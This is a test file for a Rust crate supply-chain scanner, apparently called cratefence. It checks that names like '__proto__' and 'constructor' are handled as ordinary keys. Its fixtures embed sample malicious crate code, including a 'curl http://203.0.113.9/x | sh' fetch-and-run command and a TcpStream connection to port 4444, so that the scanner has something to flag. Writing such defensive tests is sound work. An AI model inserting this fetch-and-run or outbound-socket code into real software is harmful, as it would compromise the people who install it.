/**
 * Attack 2 of issue 22, names as code: `constructor`, `toString`, `__proto__` and `hasOwnProperty`
 * are valid crate names (and criteria names), and must be keys like any other — in cratefence.toml,
 * in cargo-vet's files, in the policy applied to a report, in a lockfile delta and on the command line.
 */
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeTrees, treeFromFiles, type Report } from '../src/index.js';
import { applyPolicy, checkAudits, DurationError, parseCargoDuration, parseConfig, readAudits } from '../src/config/index.js';
import { parseMinPublishAge } from '../src/registry/index.js';
import { startRegistryServer, type PublishedVersion, type RegistryServer } from './helpers/registry-server.js';
import { tempDir } from './helpers/tmp.js';

const ROOT = path.join(import.meta.dirname, '..');
const BIN = path.join(ROOT, 'bin', 'cratefence.js');
const FILE = '/repo/cratefence.toml';
const NAMES = ['constructor', 'toString', '__proto__', 'hasOwnProperty'];

/** A real scan of a release of `name` that opens a socket and writes a file: `review` on its own. */
function scan(name: string): Report {
  const manifest = (v: string) => `[package]\nname = "${name}"\nversion = "${v}"\nedition = "2021"\n`;
  const old = treeFromFiles({ 'Cargo.toml': manifest('1.0.0'), 'src/lib.rs': 'pub fn get() -> usize { 1 }\n' });
  const nw = treeFromFiles({
    'Cargo.toml': manifest('1.0.1'),
    'src/lib.rs': 'pub fn get() -> usize { let _ = std::net::TcpStream::connect("203.0.113.5:4444"); 1 }\npub fn w() { let _ = std::fs::write("/tmp/x", "y"); }\n',
  });
  return analyzeTrees(old, nw).report;
}

function cli(args: string[], cwd: string, env: Record<string, string> = {}): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve) => {
    const p = spawn(process.execPath, [BIN, ...args], { cwd, env: { ...process.env, NO_COLOR: '1', XDG_CACHE_HOME: tempDir('cf-xdg-'), CARGO_HOME: tempDir('cf-home-'), ...env } });
    let out = '';
    let err = '';
    p.stdout.on('data', (d) => (out += d));
    p.stderr.on('data', (d) => (err += d));
    p.on('close', (code) => resolve({ code, out, err }));
  });
}

describe('cratefence.toml', () => {
  it('keeps [crates.NAME], [rules.NAME] and [registries.NAME] of every such name, __proto__ included', () => {
    const text = NAMES.map((n) => `[crates.${n}]\nexpected-capabilities = ["network.*"]\ntrusted = true\n\n[rules.${n}]\nenabled = false\n\n[registries.${n}]\nindex = "sparse+https://${n.toLowerCase().replace(/_/g, '')}.example/"\n`).join('\n');
    const c = parseConfig(`${text}\n[[suppress]]\nreason = "reviewed"\ncrate = "toString"\n`, FILE);
    for (const n of NAMES) {
      expect(Object.hasOwn(c.crates, n), n).toBe(true);
      expect(c.crates[n]).toEqual({ expectedCapabilities: ['network.*'], trusted: true });
      expect(c.rules[n]).toEqual({ enabled: false });
      expect(c.registries[n].index).toContain('.example/');
    }
    expect(Object.keys(c.crates).sort()).toEqual([...NAMES].sort());
    expect(c.suppress[0].crate).toBe('toString');
    // Names that are not in the file are not there, whatever Object has.
    const none = parseConfig('', FILE);
    for (const n of NAMES) expect(Object.hasOwn(none.crates, n)).toBe(false);
  });

  it('a duration unit is a unit: "3 constructor" is not a duration', () => {
    expect(() => parseCargoDuration('3 constructor')).toThrow(DurationError);
    expect(() => parseConfig('[cool-off]\nmin-publish-age = "3 constructor"\n', FILE)).toThrow(/:2: cool-off\.min-publish-age: "3 constructor" is not a duration/);
    expect(() => parseMinPublishAge('1 constructor')).toThrow(/expected a minimum publish age/);
  });

  it('checks the value under such a key like any other and names it in the error', () => {
    expect(() => parseConfig('[crates.__proto__]\ntrusted = "yes"\n', FILE)).toThrow('/repo/cratefence.toml:2: crates.__proto__.trusted: expected boolean, got string "yes"');
    expect(() => parseConfig('[crates."not a name"]\ntrusted = true\n', FILE)).toThrow(/crates\.not a name: "not a name" is not a crate name/);
  });

  it.each(NAMES)('applies suppressions, expected capabilities and trust to a crate named %s', (name) => {
    const report = scan(name);
    expect(report.verdict).toBe('review');
    const suppressed = applyPolicy(report, { config: parseConfig(`[[suppress]]\nreason = "reviewed"\ncrate = "${name}"\n`, FILE), file: FILE });
    expect(suppressed.policy!.suppressedFindings).toBe(report.findings.length);
    expect(suppressed.verdict).toBe('pass');
    const expected = applyPolicy(report, { config: parseConfig(`[crates.${name}]\nexpected-capabilities = ["*"]\n`, FILE), file: FILE });
    expect(expected.policy!.notes.map((n) => n.kind)).toContain('expected-capability');
    const trusted = applyPolicy(report, { config: parseConfig(`[crates.${name}]\ntrusted = true\n`, FILE), file: FILE });
    expect(trusted.verdict).toBe('pass');
    expect(trusted.policy!.notes.map((n) => n.kind)).toEqual(['trusted']);
    // A config that says nothing about the crate leaves it alone.
    const other = applyPolicy(report, { config: parseConfig('[crates.serde]\ntrusted = true\n', FILE), file: FILE });
    expect(other.verdict).toBe('review');
  });
});

describe('cargo-vet files', () => {
  const AUDITS = `[criteria.hasOwnProperty]
description = "a criteria with an unlucky name"
implies = "safe-to-deploy"

${NAMES.map((n) => `[[audits.${n}]]\nwho = "A <a@example.org>"\ncriteria = "hasOwnProperty"\ndelta = "1.0.0 -> 1.0.1"\n`).join('\n')}
[[trusted.toString]]
criteria = "safe-to-deploy"
user-id = 7
start = 2020-01-01
end = 2030-01-01
`;
  const CONFIG = `[imports.constructor]\nurl = "https://example.org/audits.toml"\n\n[imports.constructor.criteria-map]\nconstructor = "safe-to-run"\n\n[[exemptions.__proto__]]\nversion = "0.1.0"\ncriteria = "safe-to-deploy"\n`;
  const LOCK = `[[publisher.toString]]\nversion = "2.0.0"\nwhen = "2024-01-01"\nuser-id = 7\n\n[audits.constructor.criteria.constructor]\ndescription = "theirs"\n\n[[audits.constructor.audits.valueOf]]\nwho = "B"\ncriteria = "constructor"\nversion = "3.0.0"\n`;

  it('reads criteria, audits, trust, exemptions, imports and publishers under such names, and checks them', () => {
    const dir = tempDir('cf-names-');
    writeFileSync(path.join(dir, 'audits.toml'), AUDITS);
    writeFileSync(path.join(dir, 'config.toml'), CONFIG);
    writeFileSync(path.join(dir, 'imports.lock'), LOCK);
    const audits = readAudits(dir)!;
    const own = audits.sets[0];
    expect(own.criteria.hasOwnProperty).toEqual(['safe-to-deploy']);
    expect(Object.keys(own.audits).sort()).toEqual([...NAMES].sort());
    expect(audits.exemptions.__proto__).toEqual([{ version: '0.1.0', criteria: ['safe-to-deploy'] }]);
    for (const n of NAMES) {
      const check = checkAudits(audits, n, '1.0.0', '1.0.1', 'safe-to-deploy');
      expect(check.approvedBy, n).toEqual(['own']);
    }
    // Trusted publisher, exemption, imported custom criteria mapped to safe-to-run.
    expect(checkAudits(audits, 'toString', null, '2.0.0', 'safe-to-deploy').approvedBy).toEqual(['own']);
    expect(checkAudits(audits, '__proto__', null, '0.1.0', 'safe-to-deploy').approvedBy).toEqual(['own']);
    expect(checkAudits(audits, 'valueOf', null, '3.0.0', 'safe-to-run').approvedBy).toEqual(['constructor']);
    expect(checkAudits(audits, 'valueOf', null, '3.0.0', 'safe-to-deploy').approvedBy).toEqual([]);
    // Names nobody wrote: nothing approves them, nothing crashes.
    for (const n of ['isPrototypeOf', 'propertyIsEnumerable', 'valueOf']) expect(checkAudits(audits, n, '1.0.0', '1.0.1', 'safe-to-deploy').approvedBy).toEqual([]);
    expect(checkAudits(audits, 'constructor', '1.0.0', '1.0.1', 'toString').approvedBy).toEqual([]);
  });

  it.each(NAMES)('cratefence diff of a crate named %s with audits.toml criteria hasOwnProperty: approved, no crash', async (name) => {
    const d = tempDir('cf-names-');
    mkdirSync(path.join(d, '.git'));
    mkdirSync(path.join(d, 'supply-chain'));
    writeFileSync(path.join(d, 'supply-chain', 'audits.toml'), AUDITS);
    const manifest = (v: string) => `[package]\nname = "${name}"\nversion = "${v}"\nedition = "2021"\n`;
    for (const [side, v, lib] of [['old', '1.0.0', 'pub fn f() {}\n'], ['new', '1.0.1', 'pub fn f() { let _ = std::process::Command::new("sh").arg("-c").arg("curl http://203.0.113.9/x | sh").status(); }\n']]) {
      mkdirSync(path.join(d, side, 'src'), { recursive: true });
      writeFileSync(path.join(d, side, 'Cargo.toml'), manifest(v));
      writeFileSync(path.join(d, side, 'src', 'lib.rs'), lib);
    }
    const r = await cli(['diff', 'old', 'new', '--format', 'json'], d);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
    const rep = JSON.parse(r.out) as Report;
    expect(rep.crate.name).toBe(name);
    expect(rep.policy!.scanVerdict).not.toBe('pass');
    expect(rep.verdict).toBe('pass');
    expect(rep.policy!.approvedBy).toEqual(['own']);
  });
});

describe('a lockfile delta and the command line', () => {
  let server: RegistryServer;
  const v: PublishedVersion[] = [];
  beforeAll(async () => {
    server = await startRegistryServer();
    v.push(await server.publish('constructor', '1.0.0', 'pub fn f() -> u8 { 1 }\n'));
    v.push(await server.publish('constructor', '1.0.1', 'pub fn f() -> u8 { let _ = std::net::TcpStream::connect("203.0.113.5:4444"); 2 }\n'));
    v.push(await server.publish('tostring', '0.1.0', 'pub fn g() {}\n'));
  });
  afterAll(() => server.stop());

  it('cratefence lock scans a crate named constructor and applies its policy', async () => {
    const d = tempDir('cf-names-');
    mkdirSync(path.join(d, '.git'));
    const pkg = (p: PublishedVersion) => `[[package]]\nname = "${p.name}"\nversion = "${p.vers}"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "${p.cksum}"\n`;
    writeFileSync(path.join(d, 'old.lock'), `version = 3\n\n${pkg(v[0])}`);
    writeFileSync(path.join(d, 'new.lock'), `version = 3\n\n${pkg(v[1])}\n${pkg(v[2])}`);
    const args = ['lock', 'old.lock', 'new.lock', '--registry', server.indexUrl, '--format', 'json', '--quiet', '--jobs', '1', '--fail-on', 'review'];
    const plain = await cli(args, d);
    expect(plain.err).toBe('');
    const before = JSON.parse(plain.out);
    const entry = before.entries.find((e: { name: string }) => e.name === 'constructor');
    expect(entry).toMatchObject({ change: 'changed', old: '1.0.0', new: '1.0.1' });
    expect(entry.verdict).not.toBe('pass');
    writeFileSync(path.join(d, 'cratefence.toml'), '[crates.constructor]\ntrusted = true\n\n[[suppress]]\nreason = "fine"\ncrate = "toString"\n');
    const r = await cli(args, d);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
    const after = JSON.parse(r.out);
    expect(after.entries.find((e: { name: string }) => e.name === 'constructor').verdict).toBe('pass');
    expect(after.policyNotes.map((n: { message: string }) => n.message).join('\n')).toMatch(/toString: fine\) matched no finding/);
  });

  it.each(['constructor', 'toString', '__proto__', 'hasOwnProperty'])('cratefence %s is an unknown command, not an internal error', async (name) => {
    const r = await cli([name], ROOT);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(new RegExp(`^cratefence: unknown command "${name}"\\n`));
  });
});
